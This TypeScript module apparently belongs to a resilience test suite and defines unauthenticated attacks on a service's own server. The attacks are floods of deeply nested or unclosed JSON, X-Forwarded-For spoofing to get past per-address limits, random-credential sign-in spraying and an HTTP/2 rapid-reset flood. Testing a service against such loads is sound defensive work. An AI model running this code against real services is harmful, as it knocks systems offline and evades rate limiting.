import { randomUUID } from 'node:crypto';
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';

/** An attacker without an account. */
export interface Stranger {
  readonly url: string;
}

/** Number of requests in flight, and of the addresses from which they come through a load balancer. */
const inFlight = 64;
const addresses = 4;

const longest = 65_536;
const bodies = {
  open: '['.repeat(longest),
  nested: '['.repeat(longest / 2) + ']'.repeat(longest / 2),
  wide: `[${'[],'.repeat(21_840)}[]]`,
};

const signIn = '/account/sign-in';

/** Sends a request as soon as the response to the previous one begins, and reconnects if the connection ends. */
const askAgain = async ({ url }: Stranger, toRequest: () => string) => {
  const { port, hostname: host } = new URL(url);
  for (;;) {
    const socket = connect({ port: Number(port), host });
    const ended = new Promise((resolve) => socket.once('close', resolve));
    const ask = () => socket.writable && socket.write(toRequest());
    socket.on('error', () => {}).on('data', (bytes) => bytes.includes('HTTP/1.1 ') && ask());
    ask();
    await ended;
    await pause(10);
  }
};

/** Keeps requests in flight, all of one path, from a few addresses. */
const post = (path: string, toBody: () => string) => async (stranger: Stranger) => {
  for (let n = 0; n < inFlight; n++) {
    const address = `192.0.2.${n % addresses}`;
    const toRequest = () => {
      const body = toBody();
      const head = `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nSec-Fetch-Site: same-origin`;
      return `${head}\r\nX-Forwarded-For: ${address}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    };
    void askAgain(stranger, toRequest);
  }
};

/** Returns an address of this machine that is not loopback, because connections from loopback have no limit. */
const ownAddress = (): string => {
  const all = Object.values(networkInterfaces()).flat();
  const found = all.find((each) => each !== undefined && !each.internal && each.family === 'IPv4');
  if (found === undefined) throw new Error('This measurement needs an IPv4 address that is not loopback.');
  return found.address;
};

const sessions = 16;
/** Number of calls opened and reset in one turn. */
const resetsAtOnce = 100;

/** Opens calls in a session and resets them, until the session ends. */
const resetCalls = async (session: ClientHttp2Session) => {
  while (!session.destroyed && !session.closed) {
    for (let n = 0; n < resetsAtOnce && !session.destroyed && !session.closed; n++) {
      const call = session.request({ ':path': '/version' });
      call.on('error', () => {});
      call.close(constants.NGHTTP2_CANCEL);
    }
    await pause(1);
  }
};

/** Opens calls and resets them in many sessions, and begins a new session when one ends. */
const resets = async ({ url }: Stranger) => {
  const target = `http://${ownAddress()}:${new URL(url).port}`;
  const repeat = async () => {
    for (;;) {
      const session = connectHttp2(target);
      const ended = new Promise((resolve) => session.once('close', resolve));
      session.on('error', () => {});
      await Promise.race([new Promise((resolve) => session.once('connect', resolve)), ended]);
      await resetCalls(session);
      await ended;
      await pause(10);
    }
  };
  for (let n = 0; n < sessions; n++) void repeat();
};

export const strangerAttacks = {
  'unclosed JSON at an unknown path': post('/nowhere', () => bodies.open),
  'deep JSON at an unknown path': post('/nowhere', () => bodies.nested),
  'deep JSON at sign-in': post(signIn, () => bodies.nested),
  'wide JSON at sign-in': post(signIn, () => bodies.wide),
  'deep JSON at /token': post('/token', () => bodies.nested),
  'deep JSON at a gRPC call': post('/plenum.cloud.v1.ClimateCloud/Query', () => bodies.nested),
  'passwords of unknown accounts': post(signIn, () =>
    JSON.stringify({ email: `${randomUUID()}@example.org`, password: randomUUID() }),
  ),
  'quick HTTP/2 resets': resets,
};
export type StrangerAttack = keyof typeof strangerAttacks;
